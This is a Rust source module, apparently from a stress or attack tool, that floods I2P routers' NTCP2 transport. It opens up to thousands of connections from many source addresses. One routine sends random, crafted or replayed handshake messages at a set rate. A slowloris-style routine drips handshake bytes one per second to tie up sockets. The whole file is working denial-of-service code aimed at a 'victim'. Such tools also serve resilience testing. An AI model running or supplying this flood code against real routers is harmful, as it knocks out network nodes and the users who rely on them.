// SPDX-License-Identifier: MIT
//! Floods of NTCP2 connections that never get as far as a session.

use crate::craft::{self, Victim};
use crate::pace::{Pace, Report};
use crate::{Args, Kind};
use anyhow::Result;
use samovar::base::{Clock, Net, Rng, TcpNet};
use std::cell::Cell;
use std::net::IpAddr;
use std::rc::Rc;
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::sync::Semaphore;
use tokio::time::{Instant, sleep_until, timeout};

/// Sockets that may be open at once.
const OPEN_MAX: usize = 3_000;
/// How long an answer, or the end of the connection, is waited for.
const WAIT: Duration = Duration::from_secs(12);

#[derive(Default)]
struct Counts {
    sent: Cell<u64>,
    refused: Cell<u64>,
    answered: Cell<u64>,
    no_room: Cell<u64>,
    closed_at_once: Cell<u64>,
}

fn inc(count: &Cell<u64>) {
    count.set(count.get() + 1);
}

/// Sends one message 1 and reads until the end. True if bytes came back.
async fn one(victim: &Victim, from: IpAddr, bytes: &[u8], counts: &Counts) -> bool {
    let connected = timeout(WAIT, TcpNet.connect(victim.at, Some(from))).await;
    let Ok(Ok(mut connection)) = connected else {
        inc(&counts.refused);
        return false;
    };
    connection.stream.reset_on_close();
    if connection.stream.write_all(bytes).await.is_err() {
        inc(&counts.refused);
        return false;
    }
    inc(&counts.sent);
    let begun = Instant::now();
    let mut buf = [0; 512];
    let read = timeout(WAIT, connection.stream.read(&mut buf)).await;
    if begun.elapsed() < Duration::from_millis(50) {
        inc(&counts.closed_at_once);
    }
    matches!(read, Ok(Ok(1..)))
}

/// Random, valid or replayed messages 1 from many addresses.
pub async fn messages(args: &Args) -> Result<Report> {
    let (victim, clock, mut rng) = (Rc::new(args.victim()?), Clock::system(), Rng::from_os()?);
    let counts = Rc::new(Counts::default());
    let mut prepared = Vec::new();
    if args.kind != Kind::Random {
        for _ in 0..args.prepared.max(1) {
            prepared.push(craft::message1(&mut rng, clock.now(), args.netid, &victim)?);
        }
    }
    let mut first_answered = 0;
    if args.kind == Kind::Replay {
        prepared.truncate(100);
        for message in &prepared {
            first_answered += u64::from(one(&victim, args.source(&mut rng), message, &counts).await);
        }
        counts.sent.set(0);
    }
    let local = tokio::task::LocalSet::new();
    args.ready()?;
    let open = Arc::new(Semaphore::new(OPEN_MAX));
    let mut pace = Pace::new(args.rate, args.seconds);
    let (mut n, counts2) = (0usize, counts.clone());
    local
        .run_until(async {
            while let Some(due) = pace.due().await {
                for _ in 0..due {
                    let Ok(permit) = open.clone().try_acquire_owned() else {
                        inc(&counts.no_room);
                        continue;
                    };
                    let message = match prepared.get(n % prepared.len().max(1)) {
                        Some(message) => message.clone(),
                        None => rng.bytes::<64>().to_vec(),
                    };
                    n += 1;
                    let (victim, counts, from) = (victim.clone(), counts2.clone(), args.source(&mut rng));
                    tokio::task::spawn_local(async move {
                        if one(&victim, from, &message, &counts).await {
                            inc(&counts.answered);
                        }
                        drop(permit);
                    });
                }
            }
        })
        .await;
    let mut report = Report::default();
    report.count("sent", counts.sent.get());
    report.add("per_second", counts.sent.get() as f64 / pace.elapsed());
    report.count("not_connected", counts.refused.get());
    report.count("own_sockets_full", counts.no_room.get());
    report.count("closed_at_once", counts.closed_at_once.get());
    report.count("answered", counts.answered.get());
    if args.kind == Kind::Replay {
        report.count("first_answered", first_answered);
    }
    Ok(report)
}

/// Message 1 at one byte a second, on many sockets; closed ones are opened anew, at most `rate` a second.
pub async fn slow(args: &Args) -> Result<Report> {
    let (victim, clock, mut rng) = (Rc::new(args.victim()?), Clock::system(), Rng::from_os()?);
    let local = tokio::task::LocalSet::new();
    let (open, counts) = (Arc::new(Semaphore::new(args.sockets)), Rc::new(Counts::default()));
    args.ready()?;
    let mut pace = Pace::new(args.rate, args.seconds);
    let (end, most) = (pace.end(), Rc::new(Cell::new(0usize)));
    local
        .run_until(async {
            while let Some(due) = pace.due().await {
                most.set(most.get().max(args.sockets - open.available_permits()));
                for _ in 0..due {
                    let Ok(permit) = open.clone().try_acquire_owned() else { break };
                    let Ok(message) = craft::message1(&mut rng, clock.now(), args.netid, &victim) else {
                        continue;
                    };
                    let (victim, counts, from) = (victim.clone(), counts.clone(), args.source(&mut rng));
                    tokio::task::spawn_local(async move {
                        drip(&victim, from, &message, end, &counts).await;
                        drop(permit);
                    });
                }
            }
        })
        .await;
    let mut report = Report::default();
    report.count("sent", counts.sent.get());
    report.add("per_second", counts.sent.get() as f64 / pace.elapsed());
    report.count("not_connected", counts.refused.get());
    report.count("sockets_most", most.get() as u64);
    Ok(report)
}

async fn drip(victim: &Victim, from: IpAddr, message: &[u8], end: Instant, counts: &Counts) {
    let Ok(Ok(mut connection)) = timeout(WAIT, TcpNet.connect(victim.at, Some(from))).await else {
        inc(&counts.refused);
        return;
    };
    connection.stream.reset_on_close();
    inc(&counts.sent);
    let (mut at, mut buf) = (Instant::now(), [0; 64]);
    for byte in message {
        if connection.stream.write_all(&[*byte]).await.is_err() || at >= end {
            return;
        }
        at += Duration::from_secs(1);
        tokio::select! { biased;
            read = connection.stream.read(&mut buf) => if !matches!(read, Ok(1..)) { return },
            () = sleep_until(at) => {}
        }
    }
}
